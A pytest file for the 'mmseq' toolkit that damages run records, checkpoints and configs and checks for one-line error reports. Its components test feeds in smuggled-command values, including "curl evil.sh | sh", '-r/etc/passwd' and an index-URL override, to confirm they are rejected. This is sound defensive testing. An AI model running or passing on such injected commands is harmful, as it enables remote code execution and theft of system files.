"""Records of runs and benches, damaged in every way: one line that says where."""

import json
import os
import shutil

import pytest

import mmseq
from mmseq.bench.results import append
from mmseq.config.config import Config
from mmseq.shapes import Closed, Shape, Text, Whole, fault

RESTORE = "restore the file, or train the run again."
FROM = "restore the folder from where the run was made."


class Inner(Shape):
    number: Whole


class Outer(Closed):
    inner: Inner
    names: list[Text] = []


WHOLE = {"inner": {"number": 1, "further": [None]}}


@pytest.mark.parametrize(
    ("value", "wrong"),
    [
        (WHOLE, ""),
        ([WHOLE], "it is no table"),
        (None, "it is no table"),
        ({}, "inner is missing"),
        ({"inner": []}, "inner: a list is no table"),
        ({"inner": {}}, "inner.number is missing"),
        ({"inner": {"number": True}}, "inner.number: True is no whole number"),
        ({"inner": {"number": 1.0}}, "inner.number: 1.0 is no whole number"),
        ({"inner": {"number": "1"}}, "inner.number: '1' is no whole number"),
        ({"inner": {"number": -1}}, "inner.number: -1 is too small"),
        ({"inner": {"number": 2**53}}, "inner.number: 9007199254740992 is too large"),
        ({"inner": {"number": float("nan")}}, "inner.number: nan is no whole number"),
        ({**WHOLE, "names": {"a": 1}}, "names: a table is no list"),
        ({**WHOLE, "names": ["a", None]}, "names.1: None is no string"),
        ({**WHOLE, "names": ["\ud800"]}, "names.0: '\\ud800' holds half a character"),
        ({**WHOLE, "names": [b"a"]}, "names.0: b'a' is no string"),
        ({**WHOLE, "a\x1b[1m": 1}, "a\\x1b[1m is not a key that it may have"),
        ({"inner": {"number": "a" * 99}}, f"inner.number: '{'a' * 39}…' is no whole number"),
    ],
)
def test_a_shape_says_what_is_wrong_and_where(value, wrong):
    assert fault(Outer, value) == wrong


@pytest.fixture(scope="module")
def finished(tiny_encoder, tiny_data, run_once):
    """A finished run of text alone with its last checkpoint."""
    config = Config.from_layers(
        flags={
            "text_encoder": {"name": "transformer", "model": str(tiny_encoder)},
            "fusion": {"name": "none"},
        },
        settings={
            "data.path": str(tiny_data),
            "train.epochs": 2,
            "train.batch_size": 8,
            "train.device": "cpu",
            "train.keep_last": True,
        },
    )
    return run_once(config)


@pytest.fixture
def run(finished, tmp_path):
    """A copy to be damaged."""
    return shutil.copytree(finished, tmp_path / "run")


def changed(path, keys, value):
    """Change what a JSON file (of JSON lines the first) holds at `keys`; without any, all of it."""
    first, *rest = path.read_text().splitlines() if path.suffix == ".jsonl" else [path.read_text()]
    record = json.loads(first)
    inner = record
    for key in keys[:-1]:
        inner = inner[key]
    if keys:
        inner[keys[-1]] = value
    path.write_text("\n".join([json.dumps(record if keys else value), *rest]) + "\n")


def told(result, *words):
    assert result.code == 2, result.err
    (line,) = result.err.splitlines()
    for word in words:
        assert word in line
    return line


RECORDS = [
    ("metrics.json", (), [], f"it is no table; {RESTORE}"),
    ("metrics.json", ("data",), None, f"data: None is no table; {RESTORE}"),
    ("metrics.json", ("data", "test", "sha256"), 1, f"data.test.sha256: 1 is no string; {RESTORE}"),
    ("metrics.json", ("versions", "torch"), 2.6, f"versions.torch: 2.6 is no string; {RESTORE}"),
    ("metrics.json", ("best_epoch",), True, f"best_epoch: True is no whole number; {RESTORE}"),
    ("metrics.json", ("test", "f1"), float("nan"), f"test.f1: nan is no finite number; {RESTORE}"),
    (
        "metrics.json",
        ("test", "strict", "gold"),
        -1,
        f"test.strict.gold: -1 is too small; {RESTORE}",
    ),
    ("metrics.json", ("test", "per_type"), [], f"test.per_type: a list is no table; {RESTORE}"),
    ("metrics.json", ("parameters",), {}, "(parameters.all is missing); train the run again."),
    ("timing.json", (), {}, f"seconds is missing; {RESTORE}"),
    ("timing.json", ("seconds", "training"), "1", f"seconds.training: '1' is no number; {RESTORE}"),
    ("history.jsonl", (), [], f"it is no table; {RESTORE}"),
    ("history.jsonl", ("epoch",), 1.5, f"epoch: 1.5 is no whole number; {RESTORE}"),
    ("history.jsonl", ("valid", "f1"), {}, f"valid.f1: a table is no number; {RESTORE}"),
    (
        "predictions/test.jsonl",
        ("tokens", 0),
        7,
        "(tokens.0: 7 is no string); train the run again.",
    ),
    ("predictions/test.jsonl", ("tags",), "O", "(tags: 'O' is no list); train the run again."),
    ("predictions/test.jsonl", ("tags", 0), "X", "('X' is not a tag); train the run again."),
]


@pytest.mark.parametrize(("file", "keys", "value", "wrong"), RECORDS)
def test_a_table_of_a_damaged_run_is_one_line(run, run_cli, file, keys, value, wrong):
    changed(run / file, keys, value)
    told(run_cli("table", run), "damaged", wrong)


def test_what_a_newer_version_adds_to_a_run_is_left_alone(run, run_cli):
    before = run_cli("table", run)
    changed(run / "metrics.json", ("further",), [{"a": None}])
    changed(run / "metrics.json", ("test", "further"), {"f1": "x"})
    changed(run / "history.jsonl", ("further",), None)
    assert (before.code, run_cli("table", run).out) == (0, before.out)


@pytest.mark.parametrize(
    ("keys", "value", "wrong"),
    [
        (("system",), None, "system: None is no string"),
        (("seed",), "1", "seed: '1' is no whole number"),
        (("config",), [], "config: a list is no table"),
        (("config", "train"), 1, "config.train: 1 is no table"),
        (("config", "aux"), {"a": 1}, "config.aux.a: 1 is no table"),
        (("splits",), {}, "splits.test is missing"),
        (("splits", "test"), {"sha256": "0"}, "splits.test.sentences is missing"),
        (("scores", "valid"), 50.0, "scores.valid: 50.0 is no table"),
        (("scores", "test", "recall"), "x\x1b[2J", "scores.test.recall: 'x\\x1b[2J' is no number"),
        (("counts", "test", "gold", 0), 10**30, f"counts.test.gold.0: {10**30} is too large"),
        (("curve",), [{}], "curve.0.epoch is missing"),
        (("seconds",), {"all": 1.0}, "seconds.training is missing"),
        (("parameters", "all"), 1.5, "parameters.all: 1.5 is no whole number"),
        (("threads",), [], "threads: a list is no whole number"),
        (("finished",), 3, "finished: 3 is no string"),
        (("pictures",), {"after": -3}, "pictures.after: -3 is too small"),
    ],
)
@pytest.mark.parametrize("command", ["table", "compare"])
def test_a_result_of_another_form_is_one_line(
    command, run_cli, make_result, tmp_path, keys, value, wrong
):
    file = tmp_path / "results.jsonl"
    append(file, make_result("a", 1))
    changed(file, keys, value)
    line = told(run_cli(command, file))
    assert line == f"Error: {file}:1: not a result ({wrong}); remove the line."


def test_a_result_may_hold_more_than_is_known(run_cli, make_result, tmp_path):
    file = tmp_path / "results.jsonl"
    append(file, make_result("a", 1))
    before = run_cli("table", file)
    changed(file, ("further",), [{}])
    changed(file, ("config", "train", "further"), {"a": [1]})
    assert (before.code, run_cli("table", file).code) == (0, 0)


@pytest.mark.parametrize(
    ("keys", "value", "wrong"),
    [
        ((), {}, "it is no list"),
        ((0,), None, "0: None is no table"),
        ((0, "kind"), "text", "0.kind: 'text' is no kind of component"),
        ((0, "kind"), ["fusion"], "0.kind: a list is no string"),
        ((0, "name"), "a\x1b[1m", "0.name: 'a\\x1b[1m' is no name"),
        (
            (0, "distribution"),
            "x'; curl evil.sh | sh; '",
            "0.distribution: \"x'; curl evil.sh | sh; '\" is no distribution",
        ),
        ((0, "distribution"), "git+https://x/y", "0.distribution: 'git+https://x/y' is no distrib"),
        (
            (0, "distribution"),
            "-r/etc/passwd",
            "0.distribution: '-r/etc/passwd' is no distribution",
        ),
        ((0, "distribution"), "mmseq\n", "0.distribution: 'mmseq\\n' is no distribution"),
        ((0, "distribution"), "a" * 101, f"0.distribution: '{'a' * 39}…' is no distribution"),
        (
            (0, "version"),
            "1.0 --index-url http://x",
            "0.version: '1.0 --index-url http://x' is no ",
        ),
        ((0, "version"), "", "0.version: '' is no version"),
        ((0, "version"), "1" * 61, f"0.version: '{'1' * 39}…' is no version"),
    ],
)
def test_no_advice_is_made_of_any_text(run, run_cli, keys, value, wrong):
    path = run / "assets" / "components.json"
    changed(path, keys, value)
    line = told(run_cli("predict", run, "--text", "Jordan"), f"{path}: damaged: ", wrong, FROM)
    assert "pip install" not in line


def test_components_of_another_version_are_advised_by_name(run, run_cli):
    changed(run / "assets" / "components.json", (0, "version"), "0.0.1rc1")
    found = run_cli("predict", run, "--text", "Jordan")
    assert found.code == 0
    assert "pip install 'mmseq==0.0.1rc1'." in found.err
    changed(run / "assets" / "components.json", (0, "version"), "?")
    assert "pip install 'mmseq'." in run_cli("predict", run, "--text", "Jordan").err


@pytest.mark.parametrize(
    ("labels", "wrong"),
    [
        ("O", "it is no list"),
        (["O", 1], "1: 1 is no string"),
        (["O", "PER"], "'PER' is no BIO tag"),
        (["O", "S-PER"], "'S-PER' is no BIO tag"),
        (["O", "B-PER", "I-PER", "B-PER"], "'B-PER' stands there twice"),
        (["B-PER", "I-PER"], "'O' is missing"),
    ],
)
def test_labels_are_the_tags_of_a_model(run, run_cli, labels, wrong):
    changed(run / "labels.json", (), labels)
    line = told(run_cli("predict", run, "--text", "Jordan"))
    assert line == (
        f"Error: {run / 'labels.json'}: damaged: not a list of tag names ({wrong}); {FROM}"
    )


@pytest.mark.parametrize(
    ("keys", "value", "wrong"),
    [
        ((), [1], "progress.json: it is no table"),
        (("step",), -5, "progress.json: step: -5 is too small"),
        (("step",), 5, "progress.json is of step-00000005-0002"),
        (("epoch",), "2", "progress.json: epoch: '2' is no whole number"),
        (("best",), None, "progress.json: best: None is no table"),
        (("best", "f1"), "x", "progress.json: best.f1: 'x' is no number"),
        (("best", "valid"), {"f1": 1.0}, "progress.json: best.valid.precision is missing"),
        (
            ("seconds", "training"),
            float("nan"),
            "progress.json: seconds.training: nan is no finite",
        ),
        (("sums",), {"main": 1.0}, "progress.json: sums and items differ in 'main'"),
        (("items",), {"main": 0}, "progress.json: items.main: 0 is too small"),
        (("callbacks",), [], "progress.json: callbacks: a list is no table"),
        (("further",), 1, "progress.json: further is not a key that it may have"),
        (("generators",), [[3, [10**30], None]], "damaged checkpoint"),
        (("generators",), [[]], "damaged checkpoint"),
    ],
)
def test_a_checkpoint_is_what_was_written(run, run_cli, keys, value, wrong):
    for name in ("metrics.json", "model.safetensors"):
        (run / name).unlink()
    (step,) = (run / "last").glob("step-*")
    changed(step / "progress.json", keys, value)
    told(run_cli("train", "--resume", "--output", run), f"{step}: damaged checkpoint", wrong)


def test_the_current_checkpoint_lies_in_the_run(run, run_cli):
    for name in ("metrics.json", "model.safetensors"):
        (run / name).unlink()
    (run / "last" / "current").write_text("../../elsewhere")
    told(
        run_cli("train", "--resume", "--output", run),
        "'current' names no checkpoint: '../../elsewhere'",
    )


@pytest.mark.parametrize(
    "name",
    [
        *("config.toml", "labels.json", "model.safetensors", "assets", "assets/components.json"),
        *("assets/text_encoder", "assets/text_encoder/tokenizer.json"),
    ],
)
def test_a_run_is_whole_also_through_links(run, run_cli, name, tmp_path):
    (run / name).rename(tmp_path / "outside")
    (run / name).symlink_to(tmp_path / "outside")
    for folder in (run, os.path.relpath(run)):
        line = told(run_cli("predict", folder, "--text", "Jordan"))
        assert line.startswith(f"Error: {folder}/{name}: leads out of the run, to ")
        assert line.endswith("; a run is whole: put the file itself there.")


@pytest.mark.parametrize("name", ["metrics.json", "timing.json", "history.jsonl", "predictions"])
def test_figures_of_a_run_are_its_own(run, run_cli, name, tmp_path):
    (run / name).rename(tmp_path / "outside")
    (run / name).symlink_to("../outside")
    told(run_cli("table", run), f"{run / name}: leads out of the run")


def test_a_link_within_a_run_and_to_a_run_is_followed(run, run_cli, tmp_path):
    folder = run / "assets" / "text_encoder"
    (folder / "tokenizer.json").rename(folder / "other.json")
    (folder / "tokenizer.json").symlink_to("other.json")
    (tmp_path / "link").symlink_to(run)
    assert run_cli("predict", tmp_path / "link", "--text", "Jordan").code == 0


def test_a_run_in_the_cache_of_the_hub_is_whole(run, run_cli, tmp_path):
    """Its files are links to blobs of the repository, as snapshot_download leaves them."""
    snapshot = tmp_path / "models--a--b" / "snapshots" / "0123"
    blobs = tmp_path / "models--a--b" / "blobs"
    blobs.mkdir(parents=True)
    for number, path in enumerate(sorted(p for p in run.rglob("*") if p.is_file())):
        place = snapshot / path.relative_to(run)
        place.parent.mkdir(parents=True, exist_ok=True)
        path.rename(blobs / str(number))
        place.symlink_to(os.path.relpath(blobs / str(number), place.parent))
    assert run_cli("predict", snapshot, "--text", "Jordan").code == 0


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_a_pipe_among_a_run_s_files_hangs_nothing(run):
    path = run / "assets" / "text_encoder" / "config.json"
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(mmseq.UserError, match=r"config\.json: is neither a file nor a folder"):
        mmseq.load(run)


@pytest.mark.parametrize(
    ("text", "wrong"),
    [
        ("train = 1.0", "'train' is a section: write [train]."),
        ("callbacks = [{ history = {} }]", "'callbacks' is a section: write [callbacks]."),
        ("[aux]\nboundary = 1", "[aux] boundary = 1: write [aux.boundary]."),
        ('fusion = "none"', "'fusion' is a section: write [fusion]."),
    ],
)
def test_a_config_of_a_run_is_made_of_sections(run, run_cli, text, wrong):
    path = run / "config.toml"
    path.write_text(text)
    line = told(run_cli("predict", run, "--text", "Jordan"))
    assert line == f"Error: {path}: {wrong}"
